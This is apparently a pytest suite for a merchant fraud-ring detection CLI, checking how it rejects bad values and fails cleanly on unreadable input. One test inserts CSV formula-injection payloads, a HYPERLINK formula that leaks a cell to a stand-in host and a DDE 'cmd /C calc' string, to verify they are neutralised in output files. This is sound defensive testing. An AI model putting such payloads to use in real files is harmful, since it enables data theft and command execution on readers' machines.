"""One bad value is a reject, never a failed run; a file that cannot be used is exit 2
naming it (DATA_CONTRACT, "Bad input"). Each case was a reproduction of issue 13."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pandas as pd
import pytest

from tests.conftest import run_cli as graphring
from tests.conftest import write_tables

#: A ring of three shops (S1-S3 share an account and a phone) and a bystander.
MERCHANTS = "merchant_id,name,opened_on,monthly_orders,rating\n"
RING = {
    "payment_accounts": "merchant_id,account\nS1,6222 0001\nS2,6222 0001\nS3,6222 0001\n",
    "identifiers": "merchant_id,kind,value\nS1,phone,13800138000\nS2,phone,13800138000\n"
    "S3,phone,13800138000\n",
}
GOOD = (
    MERCHANTS + "S1,One,2026-01-05,120,4.6\nS2,Two,2026-02-01,80,4.4\n"
    "S3,Three,2025-12-01,300,4.9\nB1,Bystander,2020-03-01,40,4.8\n"
)


def _detect(data: Path, out: Path, *args: str, env: dict[str, str] | None = None) -> dict:
    proc = graphring("detect", str(data), "--out", str(out), *args, env=env)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    return {
        "rings": pd.read_csv(out / "rings.csv", dtype=str),
        "merchants": pd.read_csv(out / "merchants.csv", dtype=str, keep_default_na=False),
        "rejects": pd.read_csv(out / "rejects.csv", dtype=str, keep_default_na=False),
        "run": json.loads((out / "run.json").read_text()),
    }


def _why(rejects: pd.DataFrame) -> set[tuple[str, int, str, str]]:
    return {(r.file, int(r.line), r.column, r.action) for r in rejects.itertuples(index=False)}


def test_infinite_and_out_of_range_values_are_rejects_and_the_run_goes_on(
    tmp_path: Path,
) -> None:
    data = write_tables(
        tmp_path / "data",
        {
            "merchants": MERCHANTS + "S1,One,2026-01-05,inf,4.6\nS2,Two,2026-02-01,1e309,4.4\n"
            "S3,Three,2025-12-01,-5,4.9\nB1,Bystander,2020-03-01,40,4.8\n"
            "M\x00X,Nul Shop,,,\n",
            "listings": "listing_id,merchant_id,brand,price,reference_price\n"
            "L1,S1,Acme,inf,100\nL2,S2,Acme,30,0\nL3,S3,Acme,30,-1e400\nL4,S3,Acme,30,100\n",
            "addresses": "merchant_id,address,lat,lon\nS1,1 Main St,95,10\nS2,2 Main St,30,-200\n"
            "S3,3 Main St,31.2,121.5\n",
            **RING,
        },
    )
    got = _detect(data, tmp_path / "out")
    assert sorted(got["rings"]["merchant_id"]) == ["S1", "S2", "S3"]
    assert _why(got["rejects"]) == {
        ("merchants.csv", 2, "monthly_orders", "value left empty"),
        ("merchants.csv", 3, "monthly_orders", "value left empty"),
        ("merchants.csv", 4, "monthly_orders", "value left empty"),
        ("merchants.csv", 6, "merchant_id", "row set aside"),
        ("listings.csv", 2, "price", "row set aside"),
        ("listings.csv", 3, "reference_price", "value left empty"),
        ("listings.csv", 4, "reference_price", "value left empty"),
        ("addresses.csv", 2, "lat", "value left empty"),
        ("addresses.csv", 3, "lon", "value left empty"),
    }
    reasons = set(got["rejects"]["reason"])
    assert "monthly_orders is not a finite number" in reasons
    assert "monthly_orders is negative" in reasons
    assert "merchant_id holds a NUL byte" in reasons
    assert "lat must be between -90 and 90" in reasons
    # every good shop is scored; the NUL id is set aside, not loaded
    assert sorted(got["merchants"]["merchant_id"]) == ["B1", "S1", "S2", "S3"]


def test_a_future_date_is_a_reject_and_never_moves_today(tmp_path: Path) -> None:
    env = {"GRAPHRING_AS_OF": "2026-06-30"}
    base = _detect(
        write_tables(tmp_path / "a", {"merchants": GOOD, **RING}), tmp_path / "o1", env=env
    )
    future = write_tables(
        tmp_path / "b",
        {"merchants": GOOD + "F1,Future,2099-12-31,10,4.5\n", **RING},
    )
    got = _detect(future, tmp_path / "o2", env=env)
    assert _why(got["rejects"]) == {("merchants.csv", 6, "opened_on", "value left empty")}
    assert "after the run's date (2026-06-30)" in got["rejects"]["reason"].iloc[0]
    assert got["run"]["today"] == {"date": "2026-06-30", "from": "as_of setting"}
    # the other shops score exactly as without the future row
    scores = got["merchants"].set_index("merchant_id")["risk_score"]
    before = base["merchants"].set_index("merchant_id")["risk_score"]
    assert scores.drop("F1").to_dict() == before.to_dict()
    # without as_of, "today" is the run's date and run.json says so
    run = _detect(future, tmp_path / "o3")["run"]
    assert run["today"]["from"] == "run date"
    assert run["today"]["date"] == pd.Timestamp.now(tz="UTC").strftime("%Y-%m-%d")


def test_a_bad_optional_value_keeps_the_shop_in_its_ring(tmp_path: Path) -> None:
    merchants = GOOD.replace("S2,Two,2026-02-01,80,4.4", "S2,Two,2026-02-01,80,4.8 stars")
    got = _detect(write_tables(tmp_path / "d", {"merchants": merchants, **RING}), tmp_path / "o")
    assert sorted(got["rings"]["merchant_id"]) == ["S1", "S2", "S3"]
    assert _why(got["rejects"]) == {("merchants.csv", 3, "rating", "value left empty")}
    assert got["run"]["rejects"] | {"by_reason": None} == {
        "rows": 0,
        "values_left_empty": 1,
        "by_reason": None,
    }


@pytest.mark.parametrize("kind", ["folder", "dangling link", "link loop"])
def test_an_optional_table_that_cannot_be_read_is_exit_2_naming_it(
    tmp_path: Path, kind: str
) -> None:
    data = write_tables(tmp_path / "data", {"merchants": GOOD})
    path = data / "addresses.csv"
    if kind == "folder":
        path.mkdir()
    elif kind == "dangling link":
        path.symlink_to(tmp_path / "gone.csv")
    else:
        path.symlink_to(path)
    proc = graphring("detect", str(data), "--out", str(tmp_path / "out"))
    assert proc.returncode == 2, proc.stderr
    assert "addresses.csv" in proc.stderr and "not a readable file" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_a_repeated_column_is_exit_2_naming_it(tmp_path: Path) -> None:
    data = write_tables(tmp_path / "data", {"merchants": "merchant_id,name,name\nM1,a,b\n"})
    proc = graphring("detect", str(data), "--out", str(tmp_path / "out"))
    assert proc.returncode == 2, proc.stderr
    assert "merchants.csv, column 'name'" in proc.stderr and "more than once" in proc.stderr


@pytest.mark.parametrize("value", ["nan", "inf"])
def test_a_resolution_that_is_not_a_number_is_exit_2(tmp_path: Path, value: str) -> None:
    data = write_tables(tmp_path / "data", {"merchants": GOOD})
    proc = graphring("detect", str(data), "--out", str(tmp_path / "o"), "--resolution", value)
    assert proc.returncode == 2, proc.stderr
    assert "resolution must be a finite number" in proc.stderr


def test_too_many_columns_is_exit_2_and_a_thousand_are_read(tmp_path: Path) -> None:
    def wide(columns: int) -> str:
        names = ["merchant_id", "name"] + [f"x{i}" for i in range(columns - 2)]
        rows = [",".join([f"M{r}", f"n{r}"] + [str(r)] * (columns - 2)) for r in range(20)]
        return "\n".join([",".join(names), *rows]) + "\n"

    too_wide = write_tables(tmp_path / "a", {"merchants": wide(1001)})
    proc = graphring("detect", str(too_wide), "--out", str(tmp_path / "o1"))
    assert proc.returncode == 2, proc.stderr
    assert "1,001 columns" in proc.stderr and "at most 1,000" in proc.stderr
    ok = write_tables(tmp_path / "b", {"merchants": wide(1000)})
    assert len(_detect(ok, tmp_path / "o2")["merchants"]) == 20


def test_a_huge_field_is_shortened_on_pages_and_whole_in_the_csvs(tmp_path: Path) -> None:
    huge = "Z" * 3_000_000
    merchants = GOOD.replace("S1,One,", f"S1,{huge},")
    out = tmp_path / "o"
    got = _detect(write_tables(tmp_path / "d", {"merchants": merchants, **RING}), out)
    ring_id = got["rings"]["ring_id"].iloc[0]
    page = out / "packets" / ring_id / "index.html"
    assert page.stat().st_size < 2_000_000
    assert "3,000,000 characters in all" in page.read_text()
    members = pd.read_csv(out / "packets" / ring_id / "members.csv", dtype=str)
    assert huge in set(members["name"])


def test_formula_cells_are_neutralised_in_every_csv_and_kept_in_json(tmp_path: Path) -> None:
    link = '=HYPERLINK("http://x.test/?leak="&A1,"open")'
    merchants = (
        GOOD.replace("S1,One,", f'S1,"{link.replace(chr(34), chr(34) * 2)}",').replace(
            "S2,Two,", "S2,+cmd|' /C calc'!A0,"
        )
        + "@SUM(1),Bad,2026-01-01,1,9\n"
    )
    identifiers = RING["identifiers"] + "S1,email,=evil@x.test\nS2,email,=evil@x.test\n"
    out = tmp_path / "o"
    tables = {"merchants": merchants, **RING, "identifiers": identifiers}
    got = _detect(write_tables(tmp_path / "d", tables), out)
    ring_id = got["rings"]["ring_id"].iloc[0]
    members = pd.read_csv(out / "packets" / ring_id / "members.csv", dtype=str)
    assert set(members["name"]) >= {"'" + link, "'+cmd|' /C calc'!A0"}
    evidence = pd.read_csv(out / "packets" / ring_id / "evidence.csv", dtype=str)
    assert "'=evil@x.test" in set(evidence["key"])
    # the rejected row's id, written to rejects.csv, is neutralised too
    assert "'@SUM(1)" in set(got["rejects"]["value"]) | set(got["merchants"]["merchant_id"])
    for csv in [*out.glob("*.csv"), *out.glob("packets/*/*.csv")]:
        for cell in pd.read_csv(csv, dtype=str, keep_default_na=False).to_numpy().ravel():
            assert not str(cell).startswith(("=", "+", "@")) or str(cell)[1:].isdigit(), (
                csv.name,
                cell,
            )
    # JSON keeps the value verbatim
    ring = json.loads((out / "packets" / ring_id / "ring.json").read_text())
    assert "=evil@x.test" in {i["key"] for i in ring["shared_identifiers"]}


def test_no_traceback_when_the_data_folder_is_a_file(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("x")
    proc = graphring("detect", str(tmp_path / "f"), "--out", str(tmp_path / "o"))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert os.listdir(tmp_path) == ["f"]


def test_a_missing_column_right_after_the_read_is_exit_2_every_time(tmp_path: Path) -> None:
    """Arrow's CSV reader dropped its last reference to an ``io.BytesIO`` input on one of
    its own threads after ``read_csv`` returned; when the run then failed at once (exit 2)
    that thread took the GIL while Python was exiting and the process aborted ("terminate
    called without an active exception", exit 134): 19 of 30 runs on a busy 2-core machine,
    1 of 15 on a quieter one, so this catches it often, not always; the check that always
    fails without the fix is tests/unit/test_contract.py (memory Arrow owns)."""
    data = write_tables(tmp_path / "data", {"merchants": "merchant_id\nM1\n"})

    done = []
    for i in range(10):  # one after another (two at once hid the race); ~1.5 s a run
        proc = graphring("detect", str(data), "--out", str(tmp_path / f"out{i}"), timeout=60)
        done.append((proc.returncode, proc.stderr))
    assert [status for status, _ in done] == [2] * 10, [err for _, err in done]
    for _, err in done:
        assert (
            err.strip() == "graphring: error: merchants.csv, column 'name': required column missing"
        )
